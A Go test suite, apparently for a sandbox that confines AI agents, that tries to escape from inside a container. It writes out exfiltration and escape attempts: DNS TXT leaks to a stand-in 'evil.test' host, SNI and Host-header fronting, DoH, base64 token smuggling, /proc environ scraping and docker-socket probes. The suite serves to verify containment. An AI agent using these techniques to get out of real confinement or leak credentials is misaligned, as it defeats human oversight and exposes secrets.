@@ -1,0 +1,274 @@
+// Package escape is the shared escape suite: from inside a real bottle it
+// tries every way out, while fake upstreams on a hermetic "internet"
+// record every hit they get. Every backend runs it with its own Harness; a
+// test fails on any forbidden hit.
+package escape
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/bot-bottle/bot-bottle/internal/backend"
+	"github.com/bot-bottle/bot-bottle/internal/egress"
+	"github.com/bot-bottle/bot-bottle/internal/escape/hits"
+	"github.com/bot-bottle/bot-bottle/internal/secret"
+)
+
+// Names upstreamd serves; the policy allows AllowedHost only.
+const (
+	AllowedHost  = "api.allowed.test"
+	UnlistedHost = "other.test"
+	// Token is the credential the sidecar injects on AllowedHost. It must
+	// arrive upstream and never be visible in the bottle.
+	Token = "bb-escape-token-7f3a9c1e5d" //nolint:gosec // G101: a test credential
+	// ProbePath is where the probe binary is provisioned in the bottle.
+	ProbePath = "/usr/local/bin/bb-probe"
+)
+
+const policyJSON = `{"version": 1, "bottle": "escape", "log": 2,
+  "routes": [{"host": "` + AllowedHost + `", "auth": {"scheme": "Bearer", "slot": "EGRESS_TOKEN_0"},
+    "dlp": {"outbound": ["token_patterns", "known_secrets"], "inbound": [], "on_match": "block"}, "git_fetch": false}],
+  "tokens": [{"slot": "EGRESS_TOKEN_0", "env": "ESCAPE_TOKEN", "hosts": ["` + AllowedHost + `"]}]}`
+
+// Internet is the fake internet a harness built.
+type Internet struct {
+	// Upstream is upstreamd's address as the sidecar reaches it.
+	Upstream string
+	// Control is upstreamd's control URL, reachable from the test.
+	Control string
+	// CAFile is the PEM CA that signed upstreamd's certificates.
+	CAFile string
+	// HostServices are TCP listeners ("ip:port") of the machine running
+	// the bottles, at the addresses a bottle could try to reach it by.
+	HostServices []string
+}
+
+// Addrs are a started bottle's addresses, as its neighbours see them.
+type Addrs struct {
+	// Sidecar is the sidecar's address on the bottle's network.
+	Sidecar string
+	// Agent is the agent runtime's address, if it has one.
+	Agent string
+	// Gateway is the bottle network's gateway address, if it has one.
+	Gateway string
+}
+
+// Harness is what a backend gives the suite.
+type Harness struct {
+	Backend  backend.Backend
+	Internet Internet
+	// Image is an agent image with bash, curl, git and dig.
+	Image backend.Image
+	// User is the agent user of Image.
+	User backend.User
+	// Probe is the host path of the static probe binary.
+	Probe string
+	// Addrs reports a started bottle's addresses.
+	Addrs func(t *testing.T, slug string) Addrs
+}
+
+// Spec returns a spec for a bottle of the suite's policy.
+func (h *Harness) Spec(t *testing.T, slug string) *backend.Spec {
+	t.Helper()
+	dir := t.TempDir()
+	if _, err := egress.LoadOrCreateCA(filepath.Join(dir, "ca"), "escape"); err != nil {
+		t.Fatal(err)
+	}
+	pol := filepath.Join(dir, "policy.json")
+	if err := os.WriteFile(pol, []byte(policyJSON), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	probe, err := os.ReadFile(h.Probe)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &backend.Spec{
+		Slug: slug, Agent: "escape", Bottles: []string{"escape"},
+		StateDir:   dir,
+		PolicyFile: pol,
+		CADir:      filepath.Join(dir, "ca"),
+		Secrets:    map[string]secret.Value{"EGRESS_TOKEN_0": secret.New(Token)},
+		UpstreamCA: h.Internet.CAFile,
+		Resolve:    map[string]string{AllowedHost: h.Internet.Upstream + ":443", UnlistedHost: h.Internet.Upstream + ":443"},
+		Image:      h.Image,
+		User:       h.User,
+		Files:      []backend.File{{Path: ProbePath, Mode: 0o755, Data: probe, Root: true}},
+		Workspace:  backend.Workspace{Mode: "none", Path: "/workspace"},
+		Command:    []string{"sleep", "infinity"},
+		OwnerPID:   os.Getpid(),
+	}
+}
+
+// start starts a bottle and removes it when t ends.
+func (h *Harness) start(t *testing.T, slug string) {
+	t.Helper()
+	var progress bytes.Buffer
+	t.Cleanup(func() { _ = h.Backend.Stop(context.Background(), slug) })
+	if err := h.Backend.Start(context.Background(), h.Spec(t, slug), &progress); err != nil {
+		t.Fatalf("starting bottle %s: %v\n%s", slug, err, progress.String())
+	}
+}
+
+// sh runs a shell command in the bottle and returns its output and status.
+func (h *Harness) sh(t *testing.T, slug, script string) (string, int) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	var out bytes.Buffer
+	code, err := h.Backend.Exec(ctx, slug, backend.Exec{Cmd: []string{"bash", "-c", script}, Stdio: backend.Stdio{Stdout: &out, Stderr: &out}})
+	if err != nil {
+		t.Fatalf("exec %q: %v", script, err)
+	}
+	return out.String(), code
+}
+
+// Run runs the suite against h.
+func Run(t *testing.T, h *Harness) {
+	ctx := context.Background()
+	if err := hits.Reset(ctx, h.Internet.Control); err != nil {
+		t.Fatalf("resetting upstreamd: %v", err)
+	}
+	slug := fmt.Sprintf("escape-%d", time.Now().UnixNano()%100_000_000)
+	h.start(t, slug)
+	addrs := h.Addrs(t, slug)
+	up := h.Internet.Upstream
+
+	t.Run("allowed request passes with the credential injected", func(t *testing.T) {
+		out, code := h.sh(t, slug, "curl -sS --max-time 20 -H 'Authorization: Bearer agent-made-up' https://"+AllowedHost+"/allowed/ok")
+		if code != 0 || !strings.Contains(out, "ok GET /allowed/ok") {
+			t.Fatalf("exit %d: %s", code, out)
+		}
+		got := httpsHits(t, h, "/allowed/ok")
+		if len(got) != 1 || got[0].Headers.Get("Authorization") != "Bearer "+Token {
+			t.Fatalf("upstream saw %+v", got)
+		}
+	})
+	t.Run("credential is invisible in the bottle", func(t *testing.T) {
+		// The token is assembled in the shell so that the script's own
+		// command line does not hold it.
+		half := len(Token) / 2
+		script := `T1='` + Token[:half] + `'; T2='` + Token[half:] + `'; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -v "^T1="; grep -rsl -- "$T1$T2" /home /root /tmp /etc /workspace /var /run /opt /usr/local 2>/dev/null; true`
+		if out, _ := h.sh(t, slug, script); strings.Contains(out, Token) {
+			t.Fatalf("token visible in the bottle:\n%s", out)
+		}
+	})
+	cases := []struct {
+		name, script string
+	}{
+		{"unlisted host through the proxy", "curl -sS --max-time 10 -o /dev/null -w '%{http_connect}' https://" + UnlistedHost + "/forbidden/unlisted | grep -qx 403"},
+		{"proxy variables unset", "! env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 5 https://" + AllowedHost + "/forbidden/noproxy"},
+		{"proxy unset, upstream address", "! env -u HTTPS_PROXY -u https_proxy curl -sSk --max-time 5 https://" + up + "/forbidden/direct"},
+		{"direct TCP 443", "! bb-probe tcp " + up + ":443"},
+		{"direct TCP 80", "! bb-probe tcp " + up + ":80"},
+		{"direct TCP 22", "! bb-probe tcp " + up + ":22"},
+		{"direct UDP", "! bb-probe udp " + up + ":7"},
+		{"direct ICMP", "! bb-probe icmp " + up},
+		{"direct DNS to the upstream", "! bb-probe dns leak.test A " + up + ":53"},
+		{"DNS A of an unlisted name", "! bb-probe dns " + UnlistedHost + " A"},
+		{"DNS TXT of an unlisted name", "! bb-probe dns exfil-data.evil.test TXT"},
+		{"DNS of the allowed name points at the sidecar", "dig +short " + AllowedHost + " A | grep -qx '" + addrs.Sidecar + "'"},
+		{"IP literal via CONNECT", "curl -sSk --max-time 10 -o /dev/null -w '%{http_connect}' https://" + up + "/forbidden/ip | grep -qx 403"},
+		{"Host header fronting", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Host: " + UnlistedHost + "' https://" + AllowedHost + "/forbidden/fronting | grep -qx 403"},
+		{"SNI fronting", "curl -sSk --max-time 10 -o /dev/null -w '%{http_code}' --connect-to " + UnlistedHost + ":443:" + AllowedHost + ":443 https://" + UnlistedHost + "/forbidden/sni | grep -qvx 200"},
+		{"DoH", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Accept: application/dns-message' 'https://" + AllowedHost + "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB' | grep -qx 403"},
+		{"git push over HTTPS", "cd $(mktemp -d) && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && ! git push -q https://" + AllowedHost + "/forbidden/repo.git HEAD:main"},
+		{"secret in a request", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -d 'x=" + Token + "' https://" + AllowedHost + "/forbidden/dlp | grep -qx 403"},
+		{"secret in base64 in a request", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://" + AllowedHost + "/forbidden/dlp64?q=$(printf %s " + Token + " | base64) | grep -qx 403"},
+		{"the docker socket", "! test -e /var/run/docker.sock && ! test -e /run/docker.sock"},
+		{"sidecar port 22", "! bb-probe tcp " + addrs.Sidecar + ":22"},
+		{"sidecar port 80", "! bb-probe tcp " + addrs.Sidecar + ":80"},
+		{"sidecar port 443", "! bb-probe tcp " + addrs.Sidecar + ":443"},
+		{"sidecar port 9199", "! bb-probe tcp " + addrs.Sidecar + ":9199"},
+	}
+	for _, hs := range h.Internet.HostServices {
+		cases = append(cases, struct{ name, script string }{"a host service at " + hs, "! bb-probe tcp " + hs})
+	}
+	if addrs.Gateway != "" {
+		cases = append(cases, struct{ name, script string }{"the gateway", "! bb-probe tcp " + addrs.Gateway + ":22 && ! bb-probe icmp " + addrs.Gateway})
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if out, code := h.sh(t, slug, c.script); code != 0 {
+				t.Errorf("escape check failed (exit %d):\n%s\n%s", code, c.script, out)
+			}
+		})
+	}
+	t.Run("another bottle", func(t *testing.T) {
+		other := slug + "-b"
+		h.start(t, other)
+		oa := h.Addrs(t, other)
+		for _, target := range []string{oa.Sidecar + ":9099", oa.Sidecar + ":53", oa.Agent + ":22"} {
+			if strings.HasPrefix(target, ":") {
+				continue
+			}
+			if out, code := h.sh(t, slug, "bb-probe tcp "+target); code == 0 {
+				t.Errorf("reached the other bottle at %s: %s", target, out)
+			}
+		}
+	})
+	t.Run("no forbidden hit", func(t *testing.T) {
+		report, _, err := hits.Fetch(ctx, h.Internet.Control)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// The sidecar's address is the one its allowed request came from.
+		sidecar := map[string]bool{}
+		for _, hit := range report {
+			if hit.Proto == hits.ProtoHTTPS && hit.SNI == AllowedHost && strings.HasPrefix(hit.Path, "/allowed/") {
+				sidecar[remoteIP(hit.Remote)] = true
+			}
+		}
+		if len(sidecar) == 0 {
+			t.Errorf("the allowed request left no hit; the suite proves nothing")
+		}
+		for _, hit := range report {
+			if !sidecar[remoteIP(hit.Remote)] || !allowedHit(hit) {
+				t.Errorf("forbidden hit: %+v", hit)
+			}
+		}
+	})
+}
+
+// allowedHit reports a hit the suite's allowed request explains: the
+// sidecar's TLS connection to AllowedHost and its request for /allowed/.
+func allowedHit(h hits.Hit) bool {
+	switch h.Proto {
+	case hits.ProtoTCP:
+		return h.Port == 443
+	case hits.ProtoTLS:
+		return h.SNI == AllowedHost
+	case hits.ProtoHTTPS:
+		return h.SNI == AllowedHost && strings.HasPrefix(h.Path, "/allowed/")
+	}
+	return false
+}
+
+func httpsHits(t *testing.T, h *Harness, path string) []hits.Hit {
+	t.Helper()
+	report, _, err := hits.Fetch(context.Background(), h.Internet.Control)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out []hits.Hit
+	for _, hit := range report {
+		if hit.Proto == hits.ProtoHTTPS && hit.Path == path {
+			out = append(out, hit)
+		}
+	}
+	return out
+}
+
+func remoteIP(hostport string) string {
+	host, _, err := net.SplitHostPort(hostport)
+	if err != nil {
+		return hostport
+	}
+	return host
+}
